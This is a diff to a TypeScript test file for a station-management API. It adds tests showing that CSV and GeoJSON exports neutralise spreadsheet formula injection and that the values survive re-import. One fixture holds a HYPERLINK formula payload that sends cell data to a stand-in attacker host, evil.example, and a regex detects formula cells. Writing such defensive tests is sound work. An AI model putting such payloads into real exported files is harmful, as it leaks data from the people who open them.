@@ -1,5 +1,6 @@
 import { readFileSync } from 'node:fs';
 import path from 'node:path';
+import { parse as parseCsv } from 'csv-parse/sync';
 import iconv from 'iconv-lite';
 import { IMPORT_MAX_ROWS, type ApiErrorBody, type ImportReport, type NearbyResponse, type Session, type Station } from '@yz/shared';
 import { AppError } from '../../functions/src/platform/errors';
@@ -241,7 +242,33 @@ describe('files as they come', () => {
 });
 
 describe('export', () => {
+  /** Cells a spreadsheet would run as a formula (OWASP CSV injection). */
+  const FORMULA_CELL = /^[=+\-@\t\r]/;
+  const FORMULA_STATIONS = [
+    makeStation({ id: 'st-formula-1', name: '=HYPERLINK("http://evil.example/?x="&A1,"驿站详情")', address: '-都昌镇公式路 1 号', notice: '@SUM(1+1) 今日停水', hostOrganisation: '+都昌县总工会' }),
+    makeStation({ id: 'st-formula-2', name: '+86 爱心驿站', address: '=都昌镇公式路 2 号', notice: "'=已带引号的公告", hostOrganisation: '@工会' }),
+  ];
+
+  it('neutralises every cell a spreadsheet would run as a formula (names, addresses, notices a host can write)', async () => {
+    await putStations(stack, FORMULA_STATIONS);
+    const res = await fetch(`${stack.url}/stations/export?regionCode=360428&format=csv`, { headers: { authorization: `Bearer ${staff.token}` } });
+    expect(res.status).toBe(200);
+    const rows = parseCsv((await res.text()).replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
+    const cells = rows.flat();
+    expect(cells.filter((c) => FORMULA_CELL.test(c))).toEqual([]);
+    expect(cells).toContain(`'${FORMULA_STATIONS[0]!.name}`);
+    expect(cells).toContain("'@SUM(1+1) 今日停水");
+    expect(cells).toContain("''=已带引号的公告");
+
+    const geo = await request<{ features: { id: string; properties: Record<string, unknown> }[] }>(stack.url, 'GET', '/stations/export?regionCode=360428&format=geojson', { token: staff.token });
+    const strings = geo.body.features.flatMap((f) => Object.values(f.properties).flatMap((v) => (typeof v === 'string' ? [v] : Array.isArray(v) ? v.filter((x): x is string => typeof x === 'string') : [])));
+    expect(strings.filter((v) => FORMULA_CELL.test(v))).toEqual([]);
+    expect(geo.body.features.find((f) => f.id === 'st-formula-1')?.properties.notice).toBe("'@SUM(1+1) 今日停水");
+  });
+
   it('writes the importer\'s columns; the file imports back unchanged, and into empty tables as the same stations', async () => {
+    // Formula-looking names and notices too: the importer takes the neutralising apostrophe off again.
+    await putStations(stack, FORMULA_STATIONS);
     const res = await fetch(`${stack.url}/stations/export?regionCode=360428&format=csv`, { headers: { authorization: `Bearer ${staff.token}` } });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')).toContain('text/csv');
@@ -295,6 +322,8 @@ describe('export', () => {
         status: s.status,
       });
       expect(there.map(carried)).toEqual(here.map(carried));
+      expect(there.find((s) => s.id === 'st-formula-1')).toMatchObject({ name: FORMULA_STATIONS[0]!.name, notice: '@SUM(1+1) 今日停水', address: '-都昌镇公式路 1 号' });
+      expect(there.find((s) => s.id === 'st-formula-2')?.notice).toBe("'=已带引号的公告");
     } finally {
       await fresh.stop();
     }
